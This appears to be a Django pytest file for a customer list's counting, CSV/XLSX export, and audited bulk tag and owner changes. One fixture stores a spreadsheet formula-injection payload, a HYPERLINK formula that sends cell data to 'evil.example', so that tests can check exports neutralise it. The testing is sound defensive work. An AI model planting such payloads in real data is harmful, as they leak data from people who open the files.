"""The customer list's count, its export as CSV or XLSX, and changes to a selection or to the
whole filter: permission-checked, audited, in batches, and idempotent."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.utils import translation
from openpyxl import load_workbook

from patron.conftest import with_token
from patron.customers import bulk, list_export
from patron.customers.bulk import bulk_change
from patron.customers.counting import Count, count_matches
from patron.customers.filters import customer_filters
from patron.customers.models import AuditEvent, Customer, ListAction, Tag
from patron.customers.selectors import customer_list
from patron.customers.tests.factories import make_customer
from patron.customers.views import bulk_question, count_sentence

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def shop(somchai, thai_shop):
    """Five Thai customers tagged regular, two Vietnamese; one Thai whose name is a formula."""
    made = [
        make_customer(somchai, display_name=f"Somsri {i}", country="TH", tags=["regular"]) for i in range(4)
    ]
    made.append(
        make_customer(somchai, display_name=FORMULA, country="TH", tags=["regular"], phones=["0812345678"])
    )
    made += [make_customer(somchai, display_name=f"An {i}", country="VN") for i in range(2)]
    return made


def selection(**values):
    return customer_filters.parse(values)


# The count


def test_the_count_is_exact_up_to_the_threshold_then_an_estimate_on_postgresql(shop):
    thai = customer_list(country="TH")
    assert count_matches(thai) == Count(5, True)
    assert count_matches(thai, exact_up_to=5) == Count(5, True)
    above = count_matches(thai, exact_up_to=2)
    if connection.vendor == "postgresql":
        # The planner's estimate, never below what the exact count found.
        assert not above.exact and above.value >= 3
    else:
        assert above == Count(5, True)


def test_a_count_that_would_take_too_long_is_an_estimate_on_postgresql(shop):
    thai = customer_list(country="TH")
    if connection.vendor == "postgresql":
        slow = thai.extra(where=["(SELECT pg_sleep(0.5)) IS NOT NULL"])
        count = count_matches(slow, exact_up_to=100, count_ms=20)
        assert not count.exact and count.value >= 1
        assert count_matches(thai, exact_up_to=100) == Count(5, True)
        with connection.cursor() as cursor:  # the request's transaction keeps no timeout
            cursor.execute("SHOW statement_timeout")
            assert cursor.fetchone()[0] == "0"
    else:
        assert count_matches(thai, count_ms=0) == Count(5, True)


def test_an_estimate_is_said_as_about_and_rounded():
    assert Count(123_456, False).shown == 120_000
    assert Count(987, False).shown == 990
    assert Count(123_456, True).shown == 123_456
    assert count_sentence(Count(123_456, False)) == "About 120,000 customers match."
    assert count_sentence(Count(12_345, True)) == "12,345 customers match."
    assert count_sentence(Count(1, True)) == "1 customer matches."


def test_the_list_page_says_how_many_match(client, somchai, shop):
    client.force_login(somchai)
    response = client.get("/customers/", {"country": "TH"}, HTTP_HX_REQUEST="true")
    assert response.context["count"] == Count(5, True)
    assert response.context["count_sentence"] in response.content.decode()


# The export


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_the_csv_export_holds_the_filtered_list_with_formulas_neutralised(client, somchai, shop):
    client.force_login(somchai)
    response = client.get("/customers/export/", {"format": "csv", "country": "TH", "tag": "regular"})
    assert response.status_code == 200 and response.streaming
    assert response["Content-Disposition"].startswith('attachment; filename="customers-')
    rows = read_csv(response)
    assert rows[0] == list(list_export.HEADER)
    assert [row[1] for row in rows[1:]] == [f"Somsri {i}" for i in range(4)] + ["'" + FORMULA]
    formula_row = rows[-1]
    assert formula_row[5] == "'+66812345678"  # a phone begins with + too
    assert formula_row[10] == "regular"
    action = ListAction.objects.get()
    assert (action.kind, action.value, action.matched, action.status) == ("export", "csv", 5, "done")
    assert action.filters == {"tag": "regular", "country": "TH"} and action.actor == somchai


def test_the_xlsx_export_holds_the_same_cells(client, somchai, shop):
    client.force_login(somchai)
    response = client.get("/customers/export/", {"format": "xlsx", "country": "TH"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    rows = [list(row) for row in book.active.iter_rows(values_only=True)]
    assert rows[0] == list(list_export.HEADER)
    names = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names
    assert all(not str(cell).startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell)
    assert ListAction.objects.get().matched == 5


def test_an_xlsx_of_more_customers_than_it_may_hold_is_refused(client, somchai, shop, monkeypatch):
    monkeypatch.setattr(list_export, "XLSX_MAX_ROWS", 4)
    with pytest.raises(ValidationError, match="as CSV"):
        list_export.list_export(selection=selection(country="TH"), file_format="xlsx", by=somchai)
    client.force_login(somchai)
    response = client.get("/customers/export/", {"format": "xlsx", "country": "TH"})
    assert response.status_code == 302 and not ListAction.objects.exists()


def test_only_who_may_export_the_list_does(client, emre, maria, shop):
    for user in (emre, maria):
        with pytest.raises(PermissionDenied):
            list_export.list_export(selection=selection(), file_format="csv", by=user)
        client.force_login(user)
        assert client.get("/customers/export/", {"format": "csv"}).status_code == 403
        assert "/customers/export/" not in client.get("/customers/").content.decode()
    assert not ListAction.objects.exists()


# Changes to many customers


def tagged(name):
    return sorted(Customer.objects.filter(tags__name=name).values_list("display_name", flat=True))


def test_a_tag_added_to_the_customers_chosen(somchai, shop):
    chosen = [shop[0].pk, shop[5].pk]
    action = bulk_change(kind="tag_add", value="vip", ids=chosen, by=somchai)
    assert (action.status, action.matched, action.changed) == ("done", 2, 2)
    assert tagged("vip") == ["An 0", "Somsri 0"]
    audit = AuditEvent.objects.filter(customer=shop[5], action="update").get()
    assert audit.changes == {"tags": [[], ["vip"]]} and audit.actor == somchai
    # Again, and in another case: the same tag, nobody changed twice.
    again = bulk_change(kind="tag_add", value="VIP", ids=chosen, by=somchai)
    assert (again.changed, Tag.objects.filter(name__iexact="vip").count()) == (0, 1)
    assert AuditEvent.objects.filter(action="update").count() == 2


def test_a_tag_removed_from_the_whole_filter_in_batches(somchai, shop, monkeypatch):
    monkeypatch.setattr(bulk, "BATCH", 2)
    action = bulk_change(kind="tag_remove", value="REGULAR", selection=selection(country="TH"), by=somchai)
    assert (action.value, action.matched, action.changed) == ("regular", 5, 5)
    assert tagged("regular") == []
    assert AuditEvent.objects.filter(action="update").count() == 5
    assert action.filters == {"country": "TH"}


def test_an_owner_assigned_to_the_whole_filter_then_removed(somchai, lan, shop):
    action = bulk_change(kind="owner", value="lan", selection=selection(country="VN"), by=somchai)
    assert action.changed == 2
    assert sorted(c.display_name for c in customer_list(owner="lan")) == ["An 0", "An 1"]
    assert AuditEvent.objects.filter(action="update", changes={"owner": [None, "lan"]}).count() == 2
    assert bulk_change(kind="owner", value="lan", selection=selection(country="VN"), by=somchai).changed == 0
    assert bulk_change(kind="owner", value="", selection=selection(owner="lan"), by=somchai).changed == 2
    assert customer_list(owner="none").count() == 7


def test_a_large_change_is_queued_and_run_by_its_job(
    somchai, shop, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(bulk, "RUN_NOW", 3)
    with django_capture_on_commit_callbacks(execute=True):
        action = bulk_change(
            kind="tag_add", value="lunar sale", selection=selection(country="TH"), by=somchai
        )
    assert (
        action.status == "queued"
    )  # as the page said it; the job then ran it (the queue runs at once in tests)
    action.refresh_from_db()
    assert (action.status, action.changed) == ("done", 5)
    assert tagged("lunar sale") == sorted(c.display_name for c in shop[:5])
    audits = AuditEvent.objects.filter(actor_job="customers_bulk_run")
    assert audits.count() == 5
    assert {(a.actor_kind, a.actor) for a in audits} == {("system", somchai)}
    assert all("lunar sale" in audit.changes["tags"][1] for audit in audits)


def test_who_may_not_change_customers_or_make_tags_is_refused(client, emre, maria, shop):
    with pytest.raises(PermissionDenied):
        bulk_change(kind="tag_add", value="regular", ids=[shop[0].pk], by=maria)
    with pytest.raises(ValidationError, match="may not add tags"):
        bulk_change(kind="tag_add", value="brand new", ids=[shop[0].pk], by=emre)
    assert bulk_change(kind="tag_add", value="Regular", ids=[shop[5].pk], by=emre).changed == 1
    client.force_login(maria)
    form = {"action": "tag_add", "tag": "regular", "scope": "all", "query": "", "confirmed": "1"}
    assert client.post("/customers/bulk/", form).status_code == 403
    assert "bulk-form" not in client.get("/customers/").content.decode()
    assert ListAction.objects.count() == 1


def test_the_page_confirms_with_the_count_before_acting(client, lan, shop):
    client.force_login(lan)
    form = {"action": "tag_add", "tag": "vip", "scope": "all", "query": "country=TH"}
    response = client.post("/customers/bulk/", form)
    assert response.status_code == 200 and response.context["count"] == 5
    with translation.override("vi"):  # Lan's language
        assert response.context["question"] == bulk_question("tag_add", "vip", 5)
        assert bulk_question("tag_add", "vip", 5) != bulk_question("tag_add", "vip", 4)
    assert tagged("vip") == []
    response = client.post("/customers/bulk/", form | {"confirmed": "1"})
    assert response.status_code == 302 and response.url == "/customers/?country=TH"
    assert tagged("vip") == sorted(c.display_name for c in shop[:5])
    chosen = {"action": "owner", "owner": "lan", "scope": "chosen", "ids": [shop[6].pk], "query": ""}
    response = client.post("/customers/bulk/", chosen)
    with translation.override("vi"):
        assert response.context["question"] == bulk_question("owner", "lan", 1)
    client.post("/customers/bulk/", chosen | {"confirmed": "1"})
    assert [c.display_name for c in customer_list(owner="lan")] == ["An 1"]


# The same through the API


def test_the_api_exports_the_filtered_list_to_who_may(client, somchai, emre, shop):
    api = with_token(client, somchai)
    response = api.get("/api/customers/export", {"country": "VN"})
    assert response.status_code == 200
    assert [row[1] for row in read_csv(response)[1:]] == ["An 0", "An 1"]
    assert api.get("/api/customers/export", {"country": "XX"}).status_code == 422
    refused = with_token(client, emre).get("/api/customers/export")
    assert refused.status_code == 403 and refused.json()["detail"]
    assert ListAction.objects.count() == 1


def test_the_api_changes_a_filter_or_a_selection(
    client, lan, maria, shop, monkeypatch, django_capture_on_commit_callbacks
):
    api = with_token(client, lan)
    body = {"action": "tag_add", "value": "vip", "filters": {"country": "TH"}}
    response = api.post("/api/customers/bulk", body, content_type="application/json")
    assert response.status_code == 200, response.content
    assert {k: response.json()[k] for k in ("status", "matched", "changed")} == {
        "status": "done",
        "matched": 5,
        "changed": 5,
    }
    monkeypatch.setattr(bulk, "RUN_NOW", 1)
    body = {"action": "owner", "value": "lan", "ids": [shop[5].pk, shop[6].pk]}
    with django_capture_on_commit_callbacks(execute=True):
        response = api.post("/api/customers/bulk", body, content_type="application/json")
    assert response.status_code == 202 and response.json()["status"] == "queued"
    assert sorted(c.display_name for c in customer_list(owner="lan")) == ["An 0", "An 1"]
    wrong = api.post(
        "/api/customers/bulk",
        {"action": "tag_add", "value": "vip", "filters": {"colour": "red"}},
        content_type="application/json",
    )
    assert wrong.status_code == 422
    refused = with_token(client, maria).post(
        "/api/customers/bulk", {"action": "tag_remove", "value": "vip"}, content_type="application/json"
    )
    assert refused.status_code == 403 and tagged("vip") == sorted(c.display_name for c in shop[:5])
